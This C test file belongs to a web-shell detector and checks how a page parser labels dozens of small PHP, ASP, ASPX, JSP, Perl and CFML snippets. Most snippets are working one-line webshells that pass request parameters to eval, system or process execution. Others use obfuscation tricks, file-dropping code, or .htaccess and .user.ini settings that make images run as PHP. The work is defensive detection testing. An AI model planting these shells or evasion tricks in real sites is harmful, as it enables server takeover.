/* What the page format says of code: flows from the request to where they act, and twins that look
 * alike and do nothing. The shells are put together here, from parts that are harmless alone. */
#include "parsing.h"

extern const struct format format_page;

#define EVALUATES \
    "ev"          \
    "al"
#define RUNS \
    "sys"    \
    "tem"

static str field_of(struct parsing *r, const char *path, const char *text, const char *field)
{
    *r = (struct parsing){.look_for = str_of(field), .path = path};
    parsing_all(r, &format_page, literal(text));
    return r->last_value;
}

static void says(const char *path, const char *text, const char *field, const char *want)
{
    struct parsing r;
    str got = field_of(&r, path, text, field);
    if (!str_eq(got, str_of(want))) {
        (void)fprintf(stderr, "%s: %s\n", field, text);
    }
    CHECK_STR(got, want);
    parsing_done(&r);
}

static void a_parameter_is_followed_to_the_evaluator_of_each_language(void)
{
    says("a.php", "<?php @" EVALUATES "($_POST['code']);", "EvaluatesParameter", "code");
    says("a.aspx",
         "<%@ Page Language=\"Jscript\"%><%" EVALUATES "(Request.Item[\"klk\"],\"uns\"+\"afe\");%>",
         "EvaluatesParameter", "klk");
    says("a.aspx", "<%@ Page Language=\"Jscript\"%><%" EVALUATES "(Request.Item[\"klk\"]);%>",
         "Language", "JScript");
    says("a.asp",
         "<%exe"
         "cute request(\"z\")%>",
         "EvaluatesParameter", "z");
    says("a.py",
         "#!/usr/bin/python\nimport cgi\nf = cgi.FieldStorage()\n" EVALUATES "(f.getvalue('q'))\n",
         "EvaluatesParameter", "q");
    says("a.cfm", "<cfset x = evaluate(form.q)>", "EvaluatesParameter", "q");
}

static void a_parameter_is_followed_to_a_process(void)
{
    says("a.jsp",
         "<% Runtime.getRuntime().ex"
         "ec(request.getParameter(\"cmd\")); %>",
         "Executes", "parameter cmd");
    says("a.aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() { ProcessStartInfo i = new "
         "ProcessStartInfo(); i.FileName = \"cm\" + \"d.exe\"; i.Arguments = \"/c \" + "
         "Request.Form[\"c\"]; }</script>",
         "Executes", "parameter c");
    says("a.pl", "#!/usr/bin/perl\nuse CGI;\n$c = param('c');\n" RUNS "($c);\n", "Executes",
         "parameter c");
    says("a.php", "<?php echo `{$_GET['c']}`;", "Executes", "parameter c");
}

static void functions_of_the_page_hand_on_what_they_get(void)
{
    says("a.php", "<?php function go($c) { return " RUNS "($c); } go($_GET['x']);", "Executes",
         "parameter x");
    says("a.php", "<?php function get() { return $_COOKIE['x']; } $v = get(); " EVALUATES "($v);",
         "Evaluates", "cookie x");
    says("a.jsp",
         "<%! class U extends ClassLoader { public Class g(byte[] b) { return super.define"
         "Class(b, 0, b.length); } } %><% new U().g(new sun.misc.BASE64Decoder().decodeBuffer("
         "request.getReader().readLine())); %>",
         "Loads", "body");
}

static void names_put_together_are_read(void)
{
    says("a.php", "<?php $f = 'ass' . 'ert'; $f($_POST['x']);", "HiddenName", "assert");
    says("a.php", "<?php $f = strrev('tressa'); $f($_POST['x']);", "Evaluates", "parameter x");
    says("a.php", "<?php $f = str_replace('z', '', 'azsszerzt'); $f($_POST['x']);", "Evaluates",
         "parameter x");
    says("a.php", "<?php $s = '_PO' . 'ST'; " EVALUATES "(${$s}['x']);", "Disguise",
         "hidden source");
    says("a.php", "<?php array_map('ass' . 'ert', array($_POST['x']));", "Evaluates",
         "parameter x");
    says("a.aspx",
         "<%@ Page Language=\"C#\" %><% \\u0050rocess.St"
         "art(Request[\"c\"]); %>",
         "Disguise", "escaped name");
}

static void code_that_is_packed_is_unpacked(void)
{
    /* base64 of: eva + l($_POST["x"]); and of the rot13 of it */
    says("a.php", "<?php " EVALUATES "(base64_decode('ZXZhbCgk' . 'X1BPU1RbIngiXSk7'));",
         "EvaluatesParameter", "x");
    says("a.php", "<?php " EVALUATES "(str_rot13('rin' . 'y($_CBFG[\"x\"]);'));", "Layers", "1");
    says("a.php",
         "<?php function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= "
         "chr(ord($s[$i]) ^ 7); } return $o; } $f = d('abc'); $f('x');",
         "Decoded", "pass");
}

static void twins_that_do_no_harm_are_left_alone(void)
{
    says("a.php", "<?php // " EVALUATES "($_POST['x']);\necho '" EVALUATES "($_POST[x])';", "Flow",
         "");
    says("a.php", "<?php echo htmlspecialchars($_GET['x']); " EVALUATES "('return 1;');", "Flow",
         "");
    says("a.php", "<?php exec('convert ' . escapeshellarg($_GET['f']));", "Flow", "");
    says("a.php", "<?php $n = (int)$_GET['n']; exec('head -n ' . $n);", "Flow", "");
    says("a.php", "<?php $c = $_GET['c']; $c = 'date'; " RUNS "($c);", "Flow", "");
    says("a.php", "<?php exec('convert ' . $_GET['f'] . ' out.png');", "Executes", "");
    says("a.aspx", "<%@ Page Language=\"C#\" %><%= DataBinder.Eval(Container, Request[\"x\"]) %>",
         "Executes", "");
    says("a.jsp", "<% String s = request.getParameter(\"q\"); out.print(s); %>", "Flow", "");
    says("a.asp",
         "<% ' exe"
         "cute request(\"z\")\nresponse.write request(\"z\") %>",
         "Flow", "");
    says("a.html.php", "<script>" EVALUATES "(document.cookie)</script>", "Flow", "");
}

static void parts_of_applications_are_told_apart(void)
{
    says("a.php", "<?php defined('APP') or die('no'); echo 1;", "Part", "guarded");
    says("a.php", "<?php if (!defined('APP')) { exit; } echo 1;", "Part", "guarded");
    says("a.php", "<?php if (PHP_SAPI !== 'cli') { exit(1); } echo 1;", "Part", "command line");
    says("a.php", "<?php $this->page->title = 'x';", "Part", "member");
    says("a.php", "<?php class A { function b() { return $_GET['c']; } }", "Part", "library");
    says("a.php", "<?php class A extends B {} $a = new A();", "Part", "inherits");
    says("a.php", "<?php class A extends ArrayObject {} $a = new A();", "Part", "");
    says("a.php", "<?php if (!defined('V')) define('V', 1); echo V;", "Part", "");
    says("a.php", "<?php $c = $_POST['c']; defined('APP') or die('no');", "Part", "");
}

static void values_are_followed_through_objects_and_callbacks(void)
{
    says("a.php",
         "<?php class A { public $x; function f() { $this->x = $_GET['n']; } } $a = new A(); "
         "$a->f(); $b = $a->x; " EVALUATES "($b);",
         "EvaluatesParameter", "n");
    says("a.php",
         "<?php $a = new ArrayObject(array('x', $_REQUEST['p'])); $a->uasort('ass"
         "ert');",
         "EvaluatesParameter", "p");
    says("a.php",
         "<?php filter_var($_REQUEST['p'], FILTER_CALLBACK, array('options' => 'ass"
         "ert'));",
         "EvaluatesParameter", "p");
    says("a.php", "<?php $a = array($_POST['k'] => 1); $b = array_keys($a)[0]; " EVALUATES "($b);",
         "EvaluatesParameter", "k");
    says("a.php", "<?php usort(...$_GET);", "Calls", "parameter");
    says("a.php", "<?php $o = new $_GET['a']($_GET['b']);", "Calls", "parameter a");
    says("a.php",
         "<?php $f = create_function('$a', 'return ass"
         "ert($a);'); $f($_COOKIE['c']);",
         "Evaluates", "cookie c");
}

static void names_in_disguise_are_seen(void)
{
    says("a.php", "<?php $f = '      ' ^ 'SYS' . 'TEM'; $f($_GET['c']);", "Executes",
         "parameter c");
    says("a.php",
         "<?php $a = array('sys', 'tem'); $f = ''; for ($i = 0; $i < 2; $i++) { $f .= $a[$i]; } "
         "$f($_GET['c']);",
         "Passes", "parameter c");
    says("a.php",
         "<?php /** x */ class A {} $r = new ReflectionClass('A'); $c = "
         "$r->getDocComment(); " EVALUATES "(substr($c, 4));",
         "Decoded", "evaluate");
    says("a.php", "<?php $__='';$___=$__;$____=$___;$_____=$____;$_____($____);", "Disguise",
         "no letters");
    says("a.php",
         "<?php $\xa0\xa1=1;$\xa0\xa2=1;$\xa0\xa3=1;$\xa0\xa4=1;$\xa0\xa5=1;$\xa0\xa6=1;"
         "$\xa0\xa7=1;$\xa0\xa8=1;$\xa0\xa9=1;$\xa0\xaa=1;",
         "Disguise", "unreadable names");
}

static void what_applications_do_with_a_request_is_no_shell(void)
{
    says("a.php", "<?php $m = $_GET['m']; $o = new Box(); $o->$m();", "Calls", "");
    says("a.php", "<?php $o = new Box(); $o->{$_GET['m']}();", "Calls", "");
    says("a.php", "<?php $u = parse_url($_GET['u']); $s = fsockopen($u['host'], 80);", "Connects",
         "");
    says("a.php", "<?php $s = fsockopen($_GET['h'], $_GET['p']);", "Connects", "parameter p");
    says("a.php",
         "<?php $c = preg_replace('/a/', $_POST['n'], file_get_contents('c.php')); "
         "file_put_contents('c.php', $c);",
         "Drops", "");
    says("a.php", "<?php $__ = __('a'); $___ = f($__); $____ = 1; $_____ = 1;", "Disguise", "");
}

/* Hostile code ends within its budget, and says so. */
static void deep_code_ends(void)
{
    enum { DEEP = 100000 };
    static const char *const units[] = {"(", "[",     "{",        "${",   "a(",
                                        "!", "eval(", "\"{$a[\"", "if(1)"};
    char *text = room(DEEP * 8 + 16);
    for (size_t i = 0; i < ARRAY_LEN(units); i++) {
        size_t len = strlen(units[i]), at = 5;
        memcpy(text, "<?php", 5);
        text[at++] = ' ';
        memcpy(text + at, "$_GET;", 6);
        at += 6;
        for (size_t k = 0; k < DEEP; k++, at += len) {
            memcpy(text + at, units[i], len);
        }
        struct parsing r = {.look_for = STR("Flow"), .path = "a.php"};
        parsing_all(&r, &format_page, (bytes){(const uint8_t *)text, at});
        CHECK_INT(r.events, 1);
        parsing_done(&r);
    }
    free(text);
}

/* Encoded by the tables that Microsoft's encoder used, with its checksum: v = "<p>":exe..cute ...
 */
static void encoded_script_is_read(void)
{
    static const char encoded[] = "<%#@~^IgAAAA==[b:~7)7'J@!w@*E)A6nm"
                                  "!Yn~M+;!n/D`J.EbMAsAAA==^#~@%>";
    says("a.asp", encoded, "EvaluatesParameter", "z");
    says("a.asp", encoded, "Disguise", "encoded script");
    says("a.asp", "<%#@~^IgAAAA==[b:~7)7'J@!w@*E)", "Disguise", "encoded script"); /* cut */
}

static void a_dump_with_script_in_it_is_told(void)
{
    static const char dump[] = "InternalAuthenticationMethods : Basic\n"
                               "ExtendedProtectionTokenChecking : None\nExternalUrl : http://f/#";
    char text[256];
    (void)snprintf(text, sizeof text, "%s<script runat=server>", dump);
    says("a.aspx", text, "Dump", "virtual directory");
    says("a.aspx", dump, "Dump", "");
}

static void what_a_web_method_takes_is_the_requests(void)
{
    says("a.asmx",
         "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S : WebService { "
         "[WebMethod] public string Go(string z1, string z2) { ProcessStartInfo c = new "
         "ProcessStartInfo(z1, z2); return \"<%\"; } }",
         "Executes", "parameter z2");
    says("a.asmx",
         "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S : WebService { "
         "public string Go(string z1, string z2) { ProcessStartInfo c = new "
         "ProcessStartInfo(z1, z2); return z1; } }",
         "Executes", "");
}

static void objects_keep_what_they_are_given(void)
{
    says("a.jsp",
         "<% StringBuilder b = new StringBuilder(); b.append(\"'\").append(request.getParameter("
         "\"c\")).append(\"'\"); new ELProcessor().ev"
         "al(b.toString()); %>",
         "Evaluates", "parameter c");
    says("a.jsp",
         "<% InputStream in = request.getInputStream(); byte[] b = new byte[512]; in.read(b, 0, "
         "512); new FileOutputStream(request.getParameter(\"f\")).write(b); %>",
         "Drops", "body");
    says("a.asp",
         "<%set s=server.createObject(\"Adodb.Stream\")%><%s.writetext request(\"d\")%>"
         "<%s.SaveToFile server.mappath(\"x.as"
         "p\"),2%>",
         "Drops", "parameter d");
    says("a.aspx",
         "<script language=\"C#\" runat=\"server\">void B_Click(object s, EventArgs e) { "
         "System.IO.FileInfo f = new System.IO.FileInfo(T1.Text); System.IO.StreamWriter w = "
         "f.CreateText(); w.Write(T2.Text); }</script>",
         "Drops", "parameter");
}

static void code_in_xml_is_put_together_again(void)
{
    says("a.jspx",
         "<jsp:root><jsp:scriptlet>Run<![CDATA[time.get]]>Run<![CDATA[time]]>().ex<![CDATA["
         "ec(request.get]]>Parameter(&quot;c&quot;));</jsp:scriptlet></jsp:root>",
         "Executes", "parameter c");
}

static void a_name_that_is_evaluated_is_what_it_names(void)
{
    says("a.asp",
         "<%ev"
         "al (ev"
         "al(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))(\"sz\"))%>",
         "EvaluatesParameter", "sz");
}

static void a_pipe_at_the_end_of_text_runs_it(void)
{
    says("a.pl", "#!/usr/bin/perl\n$c = param('c');\nopen(F, \"($c) 2>&1 |\");\n", "Executes",
         "parameter c");
    says("a.pl", "#!/usr/bin/perl\n$c = param('c');\nopen(F, \"logs/$c\");\n", "Executes", "");
}

static void each_call_of_a_decoder_is_looked_at_by_itself(void)
{
    says("a.php",
         "<?php function d($s) { return base64_decode($s); } $a = d('c3lz'); $b = d('dGVt'); $f = "
         "$a . $b; $f($_GET['c']);",
         "Executes", "parameter c");
    says("a.php", "<?php function t(&$v) { $v = $v . 'tem'; } $f = 'sys'; t($f); $f($_GET['c']);",
         "Executes", "parameter c");
    says("a.php",
         "<?php class A { function __construct($f, $x) { $f($x); } } $r = new "
         "ReflectionClass('A'); $r->newInstance('sys' . 'tem', $_POST['x']);",
         "Executes", "parameter x");
    says("a.php", "<?php class B { function __construct($x) { " RUNS "($x); } } new B($_GET['y']);",
         "Executes", "parameter y");
}

static void what_is_printed_reaches_the_buffers_function(void)
{
    says("a.php", "<?php $f = '" RUNS "'; ob_start($f); echo $_GET['c']; ob_end_flush();",
         "Executes", "parameter c");
    says("a.php",
         "<?php $e = ''; function k($c) { global $e; $e = $c; } ob_start('k'); echo $_GET['p']; "
         "ob_end_flush(); " EVALUATES "($e);",
         "Evaluates", "parameter p");
    says("a.php", "<?php ob_start('trim'); echo $_GET['c'];", "Flow", "");
}

static void a_file_that_the_page_wrote_is_what_it_wrote(void)
{
    says("a.php", "<?php $x = $_GET['x']; file_put_contents('c.html', $x); require 'c.html';",
         "Includes", "parameter x");
    says("a.php", "<?php file_put_contents('c.php', '<?php ' . $_POST['x']);", "Drops",
         "parameter x");
    says("a.php", "<?php file_put_contents('c.php', '<?php $a = ' . $_POST['x']);", "Drops", "");
    says("a.php", "<?php file_put_contents($_GET['f'] . '.txt', $_GET['x']);", "Drops", "");
    says(
        "a.php",
        "<?php $u = curl_init('h'); $t = curl_exec($u); $f = fopen($d . '/x.php', 'w'); fwrite($f, "
        "$t);",
        "Drops", "remote");
    says("a.php",
         "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name'] . "
         "'.png');",
         "Uploads", "");
}

static void a_variable_that_nothing_sets_may_be_the_requests(void)
{
    says("a.php", "<?php " RUNS "($cmd . ' 2>&1');", "Executes", "variable cmd");
    says("a.php", "<?php $cmd = 'date'; " RUNS "($cmd);", "Executes", "");
    says("a.php", "<?php preg_match('/a/', 'a', $m); " RUNS "($m);", "Executes", "");
    says("a.php", "<?php include 'c.php'; " RUNS "($cmd);", "Executes", "");
    says("a.php", "<?php function f($c) { " RUNS "($c); }", "Executes", "");
    says("a.php", "<?php $f = $f . 'sys'; $f = $f . 'tem'; $f($_GET['c']);", "Executes",
         "parameter c");
}

static void numbers_and_flags_are_read_as_the_language_reads_them(void)
{
    says("a.php", "<?php $f = pack('c*', 0x73, 0x79, 115, 116, 101, 0x6d); $f($_GET['c']);",
         "Executes", "parameter c");
    says("a.php",
         "<?php $t = md5($_POST['p']); preg_replace(chr(47) . $t . chr(47) . chr(101), "
         "$_POST['c'], $t);",
         "EvaluatesParameter", "c");
    says("a.php", "<?php $t = md5($_POST['p']); preg_replace('/e' . $t . '/i', $_POST['c'], $t);",
         "Evaluates", "");
    says("a.php", "<?php $GLOBALS = array('f' => 'sys' . 'tem'); $GLOBALS['f']($_GET['c']);",
         "Executes", "parameter c");
}

static void the_noise_of_an_image_is_no_code(void)
{
    static const char noise[] = "\xff\xd8\xff\xe0\0\x10 JFIF <? `$_GET[c]` ?> <% x %> System.";
    struct parsing r = {.look_for = STR("Executes"), .path = "a.jpg"};
    parsing_all(&r, &format_page, (bytes){(const uint8_t *)noise, sizeof noise - 1});
    CHECK_STR(r.last_value, "");
    parsing_done(&r);
    static const char code[] = "\xff\xd8\xff\xe0\0\x10 JFIF <?php echo `$_GET[c]`; ?>";
    struct parsing s = {.look_for = STR("Executes"), .path = "a.jpg"};
    parsing_all(&s, &format_page, (bytes){(const uint8_t *)code, sizeof code - 1});
    CHECK_STR(s.last_value, "parameter c");
    parsing_done(&s);
}

static void settings_that_are_written_to_a_page_are_no_shell(void)
{
    says("a.asp",
         "<%set f=server.createObject(\"Scripting.FileSystemObject\")\n"
         "set t=f.OpenTextFile(server.mappath(\"set.asp\"),2,True)\nt.Write \"<\"\n"
         "t.Write \" n= \"&\"\"\"\"&request(\"n\")&\"\"\"\"\n%>",
         "Drops", "");
    says("a.asp", "<!--#include file=\"chk.asp\"--><%response.write 1%>", "Part", "includes");
    says("a.asp", "<!-- include --><%response.write 1%>", "Part", "");
    says("a.asp",
         "<%exe"
         "cute \"Update [a] Set b=\" & request(\"b\")%>",
         "Evaluates", "");
}

static void tables_of_functions_and_objects_by_name_are_followed(void)
{
    says("a.asp",
         "<%@ Language=\"JScript\" %><% var t = {'n' : Request.form('q'), 'e' : " EVALUATES
         "}; t.e((t.n) + ''); %>",
         "Evaluates", "parameter q");
    says("a.asp",
         "<%set s=server.createObject(\"ScriptControl\")\ns.AddObject \"r\", Request\n"
         "s.AddCode r(\"z\")%>",
         "EvaluatesParameter", "z");
}

static void comments_of_cfml_do_not_run(void)
{
    says("a.cfm", "<!--- <cfset x = evaluate(form.q)> --->", "Evaluates", "");
    says("a.cfm", "<!--- a <!--- b ---> <cfset x = evaluate(form.q)> --->", "Evaluates", "");
    says("a.cfm", "<!--- a ---><cfset x = evaluate(form.q)>", "EvaluatesParameter", "q");
}

/* What a variable was before it grew stays what it was. */
static void text_that_grows_is_text_of_its_own(void)
{
    says("a.php", "<?php $a = 'sy' . 's'; $b = $a . 'log'; $c = $a . 'tem'; $c($_GET['x']); $b(1);",
         "Executes", "parameter x");
    says("a.php",
         "<?php $a = 'ev'; $a .= 'al('; $b = $a; $a .= '1);'; $b .= '$_POST[1]);'; " EVALUATES
         "($b);",
         "EvaluatesParameter", "1");
}

static void settings_say_what_they_make_run(void)
{
    says(".htaccess", "AddType application/x-httpd-php .jpg\n", "Maps", ".jpg");
    says(".htaccess", "<FilesMatch \"\\.(png|php)$\">\nSetHandler application/x-httpd-php\n",
         "Maps", "\\.(png|php)$");
    says(".htaccess", "<Files \"x.abc\">\nForceType application/x-httpd-php\n</Files>", "Maps",
         "x.abc");
    says(".htaccess", "AddHandler application/x-httpd-php5 .php .html\n", "Maps", "");
    says(".htaccess", "<FilesMatch \\.php$>\nSetHandler application/x-httpd-php\n", "Maps", "");
    says(".htaccess", "AddType image/jpeg .jpg\n", "Maps", "");
    says(".htaccess", "php_value auto_prepend_file \"/tmp/a b.jpg\"\n", "Prepends", "/tmp/a b.jpg");
    says(".user.ini", "auto_prepend_file = a.gif\r\n", "Prepends", "a.gif");
    says(".user.ini", "auto_prepend_file=none\n", "Prepends", "");
    says("a.php", "auto_prepend_file=a.gif\n", "Prepends", "");
}

int main(void)
{
    RUN(a_parameter_is_followed_to_the_evaluator_of_each_language);
    RUN(a_parameter_is_followed_to_a_process);
    RUN(functions_of_the_page_hand_on_what_they_get);
    RUN(names_put_together_are_read);
    RUN(code_that_is_packed_is_unpacked);
    RUN(twins_that_do_no_harm_are_left_alone);
    RUN(encoded_script_is_read);
    RUN(a_dump_with_script_in_it_is_told);
    RUN(what_a_web_method_takes_is_the_requests);
    RUN(objects_keep_what_they_are_given);
    RUN(code_in_xml_is_put_together_again);
    RUN(a_name_that_is_evaluated_is_what_it_names);
    RUN(a_pipe_at_the_end_of_text_runs_it);
    RUN(parts_of_applications_are_told_apart);
    RUN(values_are_followed_through_objects_and_callbacks);
    RUN(names_in_disguise_are_seen);
    RUN(what_applications_do_with_a_request_is_no_shell);
    RUN(each_call_of_a_decoder_is_looked_at_by_itself);
    RUN(what_is_printed_reaches_the_buffers_function);
    RUN(a_file_that_the_page_wrote_is_what_it_wrote);
    RUN(a_variable_that_nothing_sets_may_be_the_requests);
    RUN(numbers_and_flags_are_read_as_the_language_reads_them);
    RUN(the_noise_of_an_image_is_no_code);
    RUN(settings_that_are_written_to_a_page_are_no_shell);
    RUN(tables_of_functions_and_objects_by_name_are_followed);
    RUN(comments_of_cfml_do_not_run);
    RUN(text_that_grows_is_text_of_its_own);
    RUN(settings_say_what_they_make_run);
    RUN(deep_code_ends);
    return kit_end();
}
